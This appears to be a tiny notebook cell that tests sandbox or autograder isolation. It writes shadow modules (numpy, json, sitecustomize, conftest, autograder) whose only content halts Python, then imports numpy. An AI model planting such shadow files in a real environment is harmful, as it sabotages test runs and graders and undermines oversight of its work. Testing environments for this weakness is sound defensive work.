# %%
from pathlib import Path

for name in ("numpy", "sitecustomize", "usercustomize", "conftest", "json", "autograder"):
    Path(f"{name}.py").write_text("raise SystemExit('gotcha')\n")
import numpy as np
import json

print(np.float64(1) + 1)
